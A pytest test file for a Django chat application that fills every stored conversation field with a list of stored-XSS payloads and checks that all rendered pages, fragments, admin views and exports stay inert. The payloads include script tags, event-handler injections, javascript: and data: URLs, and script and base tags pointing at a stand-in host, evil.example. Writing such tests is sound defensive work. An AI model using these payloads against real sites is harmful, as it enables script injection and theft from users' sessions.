"""Stored XSS: hostile text in every stored field renders inert on every page and fragment.

Each payload goes into user messages, answers, titles, citation titles and URLs, tool
calls, reasoning summaries and image names. Every HTML output is then parsed and must
hold no script but our own same-origin files, no event-handler attribute and no
script-capable URL; the exports must not be served as HTML.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from conversations.history import reads
from conversations.models import Attachment, Conversation, Message
from conversations.pipeline import fragments
from conversations.sharing import links

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)><circle/></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<div style=\"background:url('javascript:alert(1)')\" onmouseover=alert(1)>x</div>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://example.com/a.png)',
    '[a](https://example.com "title" onclick=alert(1))',
    '<https://example.com/"onmouseover="alert(1)>',
    "```html\n<script>alert(1)</script>\n```",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
]
BAD_URL = re.compile(r"^\s*(javascript|vbscript|data:text/html|data:image/svg)", re.I)
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}


class Inspector(HTMLParser):
    """Collect every dangerous construct in a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        names = dict(attrs)
        if tag == "script":
            source = names.get("src") or ""
            if not re.match(r"/[^/]", source) and names.get("type") != "application/json":
                self.problems.append(f"script tag {attrs}")
        if tag in {"iframe", "object", "embed", "base"}:
            self.problems.append(f"<{tag}>")
        if tag == "meta" and (names.get("http-equiv") or "").lower() == "refresh":
            self.problems.append("meta refresh")
        for name, value in attrs:
            if re.fullmatch(r"on\w+", name):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and value and BAD_URL.match(value):
                self.problems.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag


def assert_inert(html: str, where: str) -> None:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    assert not inspector.problems, f"{where}: {inspector.problems[:5]}"


@pytest.fixture
def hostile(make_user, settings):
    """A conversation where every stored field holds every payload."""
    owner = make_user("mallory", is_staff=True, is_superuser=True)
    corpus = "\n\n".join(PAYLOADS)
    conversation = Conversation.objects.create(owner=owner, title=PAYLOADS[2][:200])
    question = Message.objects.create(
        conversation=conversation, role=Message.Role.USER, text=corpus
    )
    Attachment.objects.create(
        owner=owner,
        message=question,
        content_type="image/png",
        original_name='"><img src=x onerror=alert(1)>.png',
        file="attachments/x.png",
        width=1,
        height=1,
        size=1,
    )
    answer_text = corpus + "\n\nSee [the source](https://example.com/a)."
    start = answer_text.index("[the source]")
    citations = [
        {
            "url": url,
            "title": title,
            "start_index": start,
            "end_index": start + 5,
            "domain": title,
        }
        for url, title in [
            ("javascript:alert(1)", "<script>alert(1)</script>"),
            ("data:text/html,<script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
            ('https://example.com/"onmouseover=alert(1)', '"><svg onload=alert(1)>'),
        ]
    ]
    answer = Message.objects.create(
        conversation=conversation,
        parent=question,
        role=Message.Role.ASSISTANT,
        text=answer_text,
        reasoning_summary=corpus,
        citations=citations,
        tool_calls=[
            {
                "name": "<script>alert(1)</script>",
                "arguments": corpus,
                "output": corpus,
                "ok": False,
                "duration_ms": 3,
            }
        ],
    )
    conversation.current_leaf = answer
    conversation.save()
    return conversation


def test_chat_page_is_inert(client, hostile):
    client.force_login(hostile.owner)
    for title in PAYLOADS:
        Conversation.objects.filter(pk=hostile.pk).update(title=title[:200])
        response = client.get(reverse("conversation", args=[hostile.pk]))
        assert response.status_code == 200
        assert_inert(response.content.decode(), f"chat page, title {title!r}")
    assert "alert(1)" in response.content.decode()  # shown as text, not dropped blindly


def test_sources_list_links_only_web_urls(client, hostile):
    client.force_login(hostile.owner)
    html = client.get(reverse("conversation", args=[hostile.pk])).content.decode()
    sources = re.search(r'<div class="sources">.*?</div>', html, re.S)
    assert sources is not None
    assert "javascript:" not in sources.group(0)
    assert "data:text/html" not in sources.group(0)


def test_websocket_fragments_are_inert(hostile):
    view = reads.transcript(hostile.owner, hostile.pk)
    assert_inert(fragments.transcript_html(view), "transcript fragment")
    for shown in view.shown:
        assert_inert(fragments.message_html(shown), f"message fragment {shown.message.role}")


def test_shared_transcript_is_inert(client, hostile):
    link = links.create_link(conversation=hostile, visibility="public", expires="")
    response = client.get(reverse("shared_transcript", args=[link.token]))
    assert response.status_code == 200
    assert_inert(response.content.decode(), "shared transcript")


def test_search_results_are_inert(client, hostile):
    client.force_login(hostile.owner)
    for query in ["alert", "script", "<script>alert(1)</script>", "onerror"]:
        response = client.get(reverse("search"), {"q": query})
        assert response.status_code == 200
        assert_inert(response.content.decode(), f"search {query!r}")


def test_admin_pages_are_inert(client, hostile):
    client.force_login(hostile.owner)
    link = links.create_link(conversation=hostile, visibility="team", expires="")
    urls = [
        reverse("admin:conversations_reviewedconversation_changelist"),
        reverse("admin:conversations_reviewedconversation_changelist") + "?q=alert",
        reverse("admin:conversations_reviewedconversation_change", args=[hostile.pk]),
        reverse("admin:conversations_sharelink_changelist"),
        reverse("admin:conversations_sharelink_change", args=[link.pk]),
    ]
    for url in urls:
        response = client.get(url, follow=True)
        assert response.status_code == 200, url
        assert_inert(response.content.decode(), url)


@pytest.mark.parametrize(
    ("name", "content_type"),
    [("export_markdown", "text/markdown"), ("export_json", "application/json")],
)
def test_exports_are_not_html_and_download(client, hostile, name, content_type):
    client.force_login(hostile.owner)
    response = client.get(reverse(name, args=[hostile.pk]))

    assert response.status_code == 200
    assert response["Content-Type"].startswith(content_type)
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
